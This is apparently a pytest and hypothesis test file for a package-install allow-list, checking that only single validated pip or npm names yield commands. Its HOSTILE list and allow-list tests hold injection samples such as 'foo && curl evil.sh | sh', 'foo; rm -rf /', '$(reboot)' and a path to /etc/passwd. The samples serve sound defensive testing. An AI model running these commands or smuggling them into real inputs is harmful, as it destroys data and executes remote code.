"""The env_fix allow-list: only known commands with one validated package name."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autopack.policy.hardening import (
    Failure,
    Mitigation,
    diagnose,
    is_allowed_command,
    npm_install_command,
    pip_install_command,
)

HOSTILE = [
    "foo; rm -rf /",
    "foo && curl evil.sh | sh",
    "$(reboot)",
    "`id`",
    "../../etc/passwd",
    "/usr/lib/foo",
    "pkg/sub",
    "--index-url=http://evil",
    "-e",
    "foo bar",
    "foo|bar",
    "foo>out",
    "git+https://github.com/x/y",
    "",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_python_names_are_refused(name: str) -> None:
    assert pip_install_command(name) is None
    (diag,) = diagnose(f"ModuleNotFoundError: No module named '{name}'") or (None,)
    if diag is not None:  # an empty or whitespace name is not even recognised
        assert diag.mitigation.command is None and diag.mitigation.kind == "hint"


@pytest.mark.parametrize(
    "name", [n for n in HOSTILE if n != "pkg/sub"] + ["./local", "node:fs", "C:\\x", "UPPER"]
)
def test_hostile_node_names_are_refused(name: str) -> None:
    assert npm_install_command(name) is None
    for diag in diagnose(f"Error: Cannot find module '{name}'"):
        assert diag.mitigation.command is None


def test_valid_names() -> None:
    assert pip_install_command("requests") == ["python", "-m", "pip", "install", "requests"]
    assert pip_install_command("google.protobuf")[-1] == "google"  # type: ignore[index]
    assert pip_install_command("my_pkg")[-1] == "my-pkg"  # type: ignore[index]
    assert npm_install_command("lodash/fp") == ["npm", "install", "lodash"]
    assert npm_install_command("@types/node") == ["npm", "install", "@types/node"]


def test_mitigation_refuses_a_command_outside_the_allow_list() -> None:
    for command in (
        ["rm", "-rf", "/"],
        ["python", "-m", "pip", "install", "a; b"],
        ["python", "-m", "pip", "install", "a", "b"],
        ["python", "-m", "pip", "install", "--upgrade", "pip"],
        ["npm", "install"],
        ["sh", "-c", "npm install x"],
    ):
        assert not is_allowed_command(command)
        with pytest.raises(ValueError, match="not allow-listed"):
            Mitigation(kind="env_fix", hint="x", command=command)
    with pytest.raises(ValueError):
        Mitigation(kind="hint", hint="x", command=["npm", "install", "x"])
    with pytest.raises(ValueError):
        Mitigation(kind="routing", hint="x")


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=2000))
def test_diagnose_never_raises_on_arbitrary_text(text: str) -> None:
    for diag in diagnose(text):
        if diag.mitigation.command is not None:
            assert is_allowed_command(diag.mitigation.command)


_FRAGMENTS = st.sampled_from(
    [
        "No module named '",
        "ModuleNotFoundError: ",
        "Cannot find module '",
        "Error: ",
        "ERROR: file or directory not found: ",
        "[Errno 2] No such file or directory: '",
        "SyntaxError: ",
        'File "',
        '", line ',
        "[no_match]",
        "scope.outside",
        "collected 0 items",
        "\n",
        "'",
        '"',
        ";",
        "/",
        "@",
        " ",
    ]
)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.one_of(_FRAGMENTS, st.text(max_size=20)), max_size=30).map("".join),
    st.lists(st.text(max_size=20), max_size=3),
    st.one_of(st.none(), st.sampled_from(["timeout", "failed", "error", ""]), st.text(max_size=5)),
    st.one_of(st.none(), st.integers()),
)
def test_diagnose_never_raises_on_adversarial_failures(
    text: str, codes: list[str], status: str | None, returncode: int | None
) -> None:
    failure = Failure(text=text, codes=tuple(codes), check_status=status, returncode=returncode)
    for diag in diagnose(failure):
        assert diag.code
        if diag.mitigation.command is not None:
            assert is_allowed_command(diag.mitigation.command)
